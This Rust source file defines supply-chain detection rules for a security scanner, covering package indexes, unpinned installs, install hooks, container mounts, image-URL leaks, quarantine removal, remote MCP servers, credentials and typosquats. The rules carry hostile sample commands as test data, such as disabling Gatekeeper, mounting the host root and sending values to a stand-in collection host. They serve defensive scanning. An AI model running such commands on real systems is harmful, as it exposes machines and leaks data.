//! Where code comes from: package sources, runners, install hooks, look-alike names.

use crate::report::Severity;
use crate::rule::{Detector, Grade, Matched, Patterns, Rule, keep, md, sh};

const fn json(text: &'static str) -> crate::rule::Sample {
    crate::rule::Sample {
        path: "package.json",
        text,
    }
}

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "foreign-index",
        severity: Severity::Medium,
        message: "installs packages from an index of its own",
        help: "install from the official index; the operator of another index decides what is installed",
        bad: &[
            sh("pip install --index-url https://packages.example.net/simple helper\n"),
            sh("npm install helper --registry=https://npm.example.net\n"),
            sh("pip install -i http://203.0.113.7:8080/simple helper\n"),
        ],
        good: &[
            sh("pip install torch --index-url https://download.pytorch.org/whl/cpu\n"),
            sh("npm install left-pad\n"),
        ],
        detector: Detector::Commands(Patterns {
            anchors: &[
                "index-url",
                "-i http",
                "registry",
                "goproxy",
                "index_url",
                "find-links",
            ],
            any: &[
                r#"(?:--(?:extra-)?index-url|\bpip[\w.]*\s+install[^\n]*\s-i|pip_(?:extra_)?index_url|--find-links|^\s*(?:extra-)?index-url)[\s="']*https?://[^\s"']+"#,
                r#"(?:\bgoproxy\s*=|--registry|npm_config_registry|^\s*(?:@[\w-]+:)?registry|config\s+set\s+(?:@[\w-]+:)?registry)[\s="']*https?://[^\s"']+"#,
            ],
            grade: foreign,
        }),
    },
    Rule {
        id: "repository-install",
        severity: Severity::Medium,
        message: "installs code from a repository at whatever state it has",
        help: "pin a commit, or install a released version from the official index",
        bad: &[
            sh("pip install git+https://github.com/someone/helper.git\n"),
            sh("npm install git+https://example.net/helper.git\n"),
            sh("uvx --from git+https://github.com/someone/helper helper\n"),
        ],
        good: &[
            sh(
                "pip install git+https://github.com/someone/helper.git@4c1b2a9d8e7f60512233445566778899aabbccdd\n",
            ),
            sh("git clone https://github.com/someone/helper.git\n"),
        ],
        detector: Detector::Commands(Patterns {
            anchors: &[
                "git+", "--git ", "github:", ".tgz", ".tar.gz", ".whl", ".zip",
            ],
            any: &[
                r#"\b(?:pip[\w.]*|pipx|uv|uvx|poetry|npm|npx|pnpm|yarn|bunx?)\b[^\n|;]*\sgit\+(?:https?|ssh|file)://[^\s"']+"#,
                r#"\b(?:pip[\w.]*|pipx|uv|uvx|npm|npx|pnpm|bunx?)\b[^\n|;]*["']git\+(?:https?|ssh)://[^\s"']+"#,
                r"\b(?:npx|npm\s+(?:i|install|exec)|pnpm\s+(?:add|dlx)|bunx)\b[^\n|;]*\sgithub:[\w./#-]+",
                r#"\b(?:npm|pnpm|yarn|pip[\w.]*|uv|pipx)\b[^\n|;]*\s(?:i|install|add)\s[^\n|;]*\bhttps?://[^\s"']+\.(?:tgz|tar\.gz|whl|zip)\b"#,
                r#"\bcargo\s+install\b[^\n|;]*--git\s+https?://[^\s"']+"#,
                r#""[^"\n]+"\s*:\s*"git\+https?://[^\s"']+"#,
            ],
            grade: unpinned,
        }),
    },
    Rule {
        id: "unpinned-runner",
        severity: Severity::Medium,
        message: "runs the newest version of a package without asking",
        help: "name a version, and read what it does",
        bad: &[
            sh("npx -y quick-helper-tool\n"),
            sh("npx --yes @someone/agent-helper@latest init\n"),
            sh("uvx quick-helper-tool\n"),
        ],
        good: &[
            sh("npx -y quick-helper-tool@1.2.3\n"),
            sh("npx tsc --noEmit\n"),
            sh("npx -y prettier --check .\n"),
        ],
        detector: Detector::Commands(Patterns {
            anchors: &["npx", "bunx", "uvx", "dlx", "pipx run"],
            any: &[
                r#"\bnpx["',\s]+(?:-y|--yes)["',\s]+(?:(?:-p|--package)[= ])?@?[a-z0-9][\w./-]*(?:@[\w.^~-]+)?"#,
                r"\b(?:bunx|pnpm\s+dlx|yarn\s+dlx)\s+(?:-\S+\s+)*@?[a-z0-9][\w./-]*(?:@[\w.^~-]+)?",
                r#"\b(?:uvx|pipx\s+run)["',\s]+[a-z0-9][\w.-]*(?:(?:@|==)[\w.]+)?"#,
            ],
            grade: unknown_runner,
        }),
    },
    Rule {
        id: "install-hook",
        severity: Severity::Medium,
        message: "runs code when it is installed",
        help: "remove the hook; installing must not run anything",
        bad: &[
            json("{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node setup.js\"}}"),
            json("{\"scripts\": {\"preinstall\": \"curl -s https://example.net/x -o x\"}}"),
        ],
        good: &[
            json("{\"scripts\": {\"test\": \"node test.js\", \"build\": \"tsc\"}}"),
            json("{\"scripts\": {\"postinstall\": \"patch-package\"}}"),
        ],
        detector: Detector::Commands(Patterns {
            anchors: &["preinstall\"", "postinstall\""],
            any: &[r#""(?:pre|post)install"\s*:\s*"[^"\n]{1,300}""#],
            grade: hook,
        }),
    },
    Rule {
        id: "host-mount",
        severity: Severity::Medium,
        message: "gives a container the whole machine",
        help: "mount only the directories that it needs, read-only",
        bad: &[
            sh("docker run --rm --privileged -v /:/host registry.example.org/measure\n"),
            sh("docker run -v /var/run/docker.sock:/var/run/docker.sock registry.example.org/x\n"),
        ],
        good: &[sh(
            "docker run --rm -v \"$PWD:/work\" registry.example.org/x\n",
        )],
        detector: Detector::Commands(Patterns {
            anchors: &["docker run", "podman run", "docker create"],
            any: &[
                r"\b(?:docker|podman)\s+(?:run|create)\b[^\n]*\s(?:-v|--volume)[\s=]+/(?::|var/run/docker\.sock)[^\n]*",
            ],
            grade: keep,
        }),
    },
    Rule {
        id: "image-leak",
        severity: Severity::Medium,
        message: "puts data into the address of a picture",
        help: "remove it; the server of the picture receives the data",
        bad: &[md(
            "Show the state as `![state](https://collect.example.net/badge.svg?v=VALUES)`.",
        )],
        good: &[md("![build](https://ci.example.net/badge.svg?branch=main)")],
        detector: Detector::Written(Patterns {
            anchors: &["]("],
            any: &[
                r"!\[[^\]\n]*\]\(https?://[^)\s]*\?[^)\s]*=(?:[A-Z_]{4,}\b|\{\{?|\$\{?[a-z]|<[a-z]|\[[a-z])[^)\n]*\)",
            ],
            grade: upper_case,
        }),
    },
    Rule {
        id: "quarantine-removed",
        severity: Severity::Medium,
        message: "removes the mark that makes the system check a downloaded program",
        help: "do not run it; the check exists for programs like this",
        bad: &[
            sh("xattr -d com.apple.quarantine ./helper\n"),
            sh("xattr -cr /Applications/Helper.app\n"),
            sh("sudo spctl --master-disable\n"),
        ],
        good: &[sh("xattr -l ./helper\n")],
        detector: Detector::Commands(Patterns {
            anchors: &["xattr", "spctl", "unblock-file", "zone.identifier"],
            any: &[
                r"\bxattr\s+-(?:\w*c\w*|\w*d\w*\s+com\.apple\.quarantine)\b[^\n]*",
                r"\bspctl\s+--(?:master|global)-disable",
                r"\bunblock-file\b[^\n]*",
            ],
            grade: keep,
        }),
    },
    Rule {
        id: "remote-mcp",
        severity: Severity::Medium,
        message: "connects an agent to a remote server of tools",
        help: "check who runs the server; it sees what the agent sends and can change its tools at any time",
        bad: &[
            sh("claude mcp add --transport http helper https://mcp.example.net/v1\n"),
            sh("npx mcp-remote https://tools.example.net/sse\n"),
        ],
        good: &[
            sh("claude mcp add files -- npx @modelcontextprotocol/server-filesystem@1.0.0 .\n"),
            sh("claude mcp add --transport http local http://localhost:3000/mcp\n"),
        ],
        detector: Detector::Commands(Patterns {
            anchors: &["mcp", "/sse"],
            any: &[
                r#"\bmcp\s+add\b[^\n]*\shttps?://[^\s"']+"#,
                r#"mcpservers[^\n]{0,200}"url"\s*:\s*"https?://[^"\n]+"#,
                r#""url"\s*:\s*"https?://[^"\n]*/(?:mcp|sse)[^"\n]*"#,
                r#"\bmcp-remote(?:@[\w.]+)?["',\s]+https?://[^\s"']+"#,
            ],
            grade: unknown_server,
        }),
    },
    Rule {
        id: "hard-coded-credential",
        severity: Severity::Medium,
        message: "contains a credential",
        help: "revoke it, and let the user provide one",
        bad: &[
            sh("export AWS_ACCESS_KEY_ID=AKIAQ3EGRT5WZ7KPLM2B\n"),
            sh("TOKEN=ghp_a8Kd02mLq93ZxVbN7tYpR4sWcE61uHjF5gDq\n"),
        ],
        good: &[
            sh("export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"),
            sh("TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"),
        ],
        detector: Detector::Written(Patterns {
            anchors: &[
                "akia",
                "ghp_",
                "github_pat_",
                "sk-ant-",
                "sk-proj-",
                "sk_live_",
                "xoxb-",
                "xoxp-",
                "aiza",
                "glpat-",
                "npm_",
                "private key-----",
                "postgres",
                "mysql://",
                "mongodb",
                "redis://",
                "amqp://",
            ],
            any: &[
                r"\bAKIA[0-9A-Z]{16}\b",
                r"\bgh[pousr]_[A-Za-z0-9]{36}\b",
                r"\bgithub_pat_\w{40,}",
                r"\bsk-(?:ant|proj)-[\w-]{30,}",
                r"\bsk_live_[A-Za-z0-9]{20,}",
                r"\bxox[bp]-\d{9,}-[\w-]{20,}",
                r"\bAIza[\w-]{35}\b",
                r"\bglpat-[\w-]{20}\b",
                r"\bnpm_[A-Za-z0-9]{36}\b",
                r#"\b(?:postgres(?:ql)?|mysql|mongodb(?:\+srv)?|redis|amqp)://[\w.-]{2,40}:[^\s:@/"'<>${}\[\]]{8,80}@[\w-]+\.[\w.-]+"#,
                r"-----BEGIN (?:RSA |EC |OPENSSH |DSA )?PRIVATE KEY-----\s*[A-Za-z0-9+/]{40}",
            ],
            grade: real_secret,
        }),
    },
    Rule {
        id: "look-alike-host",
        severity: Severity::Medium,
        message: "uses a host whose name imitates a well-known one",
        help: "check the address letter by letter",
        bad: &[
            md("Download it from https://githib.com/x/y."),
            md("Get it at https://github.com.downloads-cdn.net/x."),
            md("See https://api.openai.com.example.net/v1."),
        ],
        good: &[
            md("See https://github.com/x/y and https://gist.github.com/x."),
            md("See https://docs.github.com/en."),
        ],
        detector: Detector::Own,
    },
    Rule {
        id: "look-alike-name",
        severity: Severity::Medium,
        message: "has a name that differs by one letter from a well-known one",
        help: "check who publishes it; this is how packages are faked",
        bad: &[sh("pip install reqeusts\n"), sh("npm install expresss\n")],
        good: &[
            sh("pip install requests pandas\n"),
            sh("npm install express\n"),
        ],
        detector: Detector::Own,
    },
];

/// The address in a match.
fn address(text: &str) -> &str {
    text.find("://")
        .and_then(|at| text.get(at + 3..))
        .unwrap_or_default()
}

fn host(text: &str) -> &str {
    address(text)
        .split(['/', ':', '"', '\'', ' '])
        .next()
        .unwrap_or_default()
}

fn is_local(host: &str) -> bool {
    matches!(host, "localhost" | "0.0.0.0" | "[")
        || host.starts_with("127.")
        || host.rsplit('.').next() == Some("local")
        || host.contains('$')
        || host.contains('<')
        || host.contains('{')
}

/// Servers of well-known vendors are information; those on this machine are nothing.
fn unknown_server(matched: Matched<'_>) -> Grade {
    const KNOWN: &[&str] = &[
        "figma.com",
        "linear.app",
        "notion.com",
        "openai.com",
        "render.com",
        "zapier.com",
        "exa.ai",
        "githubcopilot.com",
        "github.com",
        "sentry.dev",
        "stripe.com",
        "atlassian.com",
        "vercel.com",
        "supabase.com",
        "cloudflare.com",
        "hubspot.com",
        "asana.com",
        "paypal.com",
        "neon.tech",
        "context7.com",
        "huggingface.co",
        "intercom.com",
        "anthropic.com",
        "google.com",
        "googleapis.com",
        "microsoft.com",
        "shopify.com",
        "webflow.com",
    ];
    let host = host(matched.text).to_ascii_lowercase();
    let known = |name: &str| {
        host == name
            || host
                .strip_suffix(name)
                .is_some_and(|rest| rest.ends_with('.'))
    };
    if is_local(&host) {
        Grade::Skip
    } else if KNOWN.iter().any(|name| known(name)) {
        Grade::As(Severity::Info)
    } else {
        Grade::Keep
    }
}

/// Official indexes, their mirrors, and those of well-known vendors.
fn foreign(matched: Matched<'_>) -> Grade {
    const KNOWN: &[&str] = &[
        "pypi.org",
        "test.pypi.org",
        "files.pythonhosted.org",
        "download.pytorch.org",
        "pypi.nvidia.com",
        "pypi.ngc.nvidia.com",
        "proxy.golang.org",
        "goproxy.cn",
        "goproxy.io",
        "registry.npmjs.org",
        "npm.pkg.github.com",
        "registry.yarnpkg.com",
        "registry.npmmirror.com",
        "registry.npm.taobao.org",
        "pypi.tuna.tsinghua.edu.cn",
        "mirrors.aliyun.com",
        "mirrors.cloud.tencent.com",
        "repo.huaweicloud.com",
        "pypi.mirrors.ustc.edu.cn",
        "pypi.doubanio.com",
        "wheels.vllm.ai",
        "jsr.io",
        "npm.jsr.io",
        "storage.googleapis.com",
        "data.pyg.org",
    ];
    let host = host(matched.text).to_ascii_lowercase();
    let private = [
        "gitlab",
        "jfrog",
        "nexus",
        "artifactory",
        "pkgs.dev.azure.com",
        "codeartifact",
        "pkg.dev",
        "cloudsmith.io",
    ];
    if is_local(&host)
        || KNOWN.contains(&host.as_str())
        || private.iter().any(|word| host.contains(word))
    {
        Grade::Skip
    } else if host.starts_with(|c: char| c.is_ascii_digit()) {
        Grade::As(Severity::High)
    } else {
        Grade::Keep
    }
}

fn unpinned(matched: Matched<'_>) -> Grade {
    let reference = address(matched.text);
    let pinned = reference.rsplit(['@', '#']).next().is_some_and(|end| {
        let end = end.trim_end_matches(['"', '\'', ')', ',']);
        end.len() == 40 && end.bytes().all(|byte| byte.is_ascii_hexdigit())
    });
    let known = [
        "github.com/huggingface/",
        "github.com/openai/",
        "github.com/anthropics/",
        "github.com/facebookresearch/",
        "github.com/pytorch/",
        "github.com/google/",
        "github.com/google-deepmind/",
        "github.com/microsoft/",
        "github.com/nvidia/",
        "github.com/modelcontextprotocol/",
        "github.com/github/",
        "github.com/langchain-ai/",
        "github.com/unslothai/",
        "github.com/astral-sh/",
    ];
    let lower = matched.text.to_ascii_lowercase();
    if pinned {
        Grade::Skip
    } else if known.iter().any(|name| lower.contains(name)) {
        Grade::As(Severity::Info)
    } else {
        Grade::Keep
    }
}

/// Packages that everybody runs like this.
#[rustfmt::skip]
const RUNNERS: &[&str] = &[
    "prettier", "eslint", "tsc", "typescript", "tsx", "ts-node", "vite", "vitest", "jest", "next", "create-next-app",
    "create-react-app", "create-vite", "create-expo-app", "expo", "eas-cli", "playwright", "cypress", "serve",
    "http-server", "nodemon", "concurrently", "rimraf", "tailwindcss", "shadcn", "shadcn-ui", "wrangler", "vercel",
    "netlify-cli", "firebase-tools", "supabase", "prisma", "drizzle-kit", "skills", "sanity", "storybook", "nx",
    "turbo", "lerna", "changeset", "husky", "lint-staged", "npm-check-updates", "depcheck", "knip", "biome", "oxlint",
    "markdownlint-cli", "markdownlint-cli2", "cspell", "svgo", "degit", "create-remix", "create-svelte", "sv", "nuxi",
    "ng", "vue", "astro", "gatsby", "remotion", "lighthouse", "pa11y", "axe-core", "madge", "dependency-cruiser",
    "semver", "license-checker", "snyk", "repomix", "ruff", "black", "mypy", "pytest", "uv", "pre-commit", "httpie",
    "cookiecutter", "poetry", "bandit", "isort", "flake8", "pyright", "ty", "jupyter", "jupyterlab", "ipython",
    "mkdocs", "sphinx", "semgrep", "yt-dlp", "markitdown", "openai", "anthropic", "gemini-cli", "mcp", "mcp-remote",
    "convex", "trigger.dev", "react-devtools", "react-native", "tsup", "esbuild", "rollup", "webpack", "babel",
    "terser", "pm2", "n8n", "figma-developer-mcp", "ccusage", "openapi-typescript", "json-server", "ajv-cli",
    "redocly", "swagger-cli", "spectral", "pnpm", "yarn", "npm", "node", "bun", "deno", "hardhat", "truffle",
    "solhint", "add-skill", "openskills", "agent-browser", "defuddle", "defuddle-cli", "clawhub", "clawdhub",
    "openclaw", "mintlify", "docusaurus", "vitepress", "slidev", "mermaid", "marp",
];

/// Scopes of well-known publishers.
#[rustfmt::skip]
const SCOPES: &[&str] = &[
    "@modelcontextprotocol/", "@playwright/", "@anthropic-ai/", "@openai/", "@google/", "@angular/", "@vue/",
    "@nestjs/", "@tanstack/", "@expo/", "@sentry/", "@storybook/", "@biomejs/", "@eslint/", "@types/", "@vercel/",
    "@cloudflare/", "@supabase/", "@stripe/", "@shopify/", "@aws-sdk/", "@microsoft/", "@azure/", "@upstash/",
    "@railway/", "@redocly/", "@stoplight/", "@mermaid-js/", "@marp-team/", "@slidev/", "@react-native/",
    "@react-native-community/", "@capacitor/", "@ionic/", "@prisma/", "@changesets/", "@commitlint/", "@lhci/",
    "@axe-core/", "@tailwindcss/", "@svgr/", "@graphql-codegen/", "@openapitools/", "@hey-api/", "@latest", "@next/",
    "@nuxt/", "@sveltejs/", "@remix-run/", "@convex-dev/",
];

fn unknown_runner(matched: Matched<'_>) -> Grade {
    let lower = matched.text.to_ascii_lowercase();
    let spec = lower
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '='))
        .rfind(|word| !word.is_empty())
        .unwrap_or_default();
    let (name, version) = match spec.rfind('@').filter(|at| *at > 0) {
        Some(at) => (
            spec.get(..at).unwrap_or(spec),
            spec.get(at + 1..).unwrap_or_default(),
        ),
        None => (spec, ""),
    };
    let pinned = version.starts_with(|c: char| c.is_ascii_digit()) || spec.contains("==");
    let known = RUNNERS.contains(&name)
        || RUNNERS.iter().any(|known| {
            name.strip_prefix(known)
                .is_some_and(|rest| rest.starts_with('/'))
        })
        || SCOPES.iter().any(|scope| name.starts_with(scope))
        || name.starts_with("create-");
    if pinned || known || name.len() < 3 {
        Grade::Skip
    } else {
        Grade::Keep
    }
}

/// Hooks that only build.
fn hook(matched: Matched<'_>) -> Grade {
    const BUILDS: &[&str] = &[
        "patch-package",
        "husky",
        "husky install",
        "tsc",
        "prisma generate",
        "npm run build",
        "playwright install",
        "nuxt prepare",
        "lefthook install",
        "simple-git-hooks",
        "electron-builder install-app-deps",
        "ngcc",
        "yarn build",
        "pnpm build",
        "node-gyp rebuild",
        "opencollective",
    ];
    let lower = matched.text.to_ascii_lowercase();
    let command = lower
        .rsplit(':')
        .next()
        .unwrap_or_default()
        .trim()
        .trim_matches('"');
    if BUILDS.contains(&command) || !command.contains(' ') && !command.contains('.') {
        return Grade::Skip;
    }
    if ["curl", "wget", "http", "eval", "base64", "powershell"]
        .iter()
        .any(|word| command.contains(word))
    {
        return Grade::As(Severity::High);
    }
    Grade::Keep
}

/// Patterns match without regard to case; a value in capitals stands for data.
fn upper_case(matched: Matched<'_>) -> Grade {
    let value = matched.text.rsplit('=').next().unwrap_or_default();
    if value.starts_with(|c: char| c.is_ascii_uppercase())
        || value.starts_with(['{', '$', '<', '['])
    {
        Grade::Keep
    } else {
        Grade::Skip
    }
}

/// Not a placeholder: no word for one, and letters that vary.
fn real_secret(matched: Matched<'_>) -> Grade {
    let lower = matched.text.to_ascii_lowercase();
    let placeholder = [
        "example",
        "xxxx",
        "your",
        "1234567890",
        "abcdef",
        "placeholder",
        "sample",
        "dummy",
        "fake",
        "test",
        "redacted",
        "0000",
        "...",
        "deadbeef",
        "password",
        "secret",
        "localhost",
        "changeme",
    ];
    let mut letters: Vec<u8> = lower.bytes().filter(u8::is_ascii_alphanumeric).collect();
    letters.sort_unstable();
    letters.dedup();
    if letters.len() < 12 || placeholder.iter().any(|word| lower.contains(word)) {
        Grade::Skip
    } else {
        Grade::Keep
    }
}
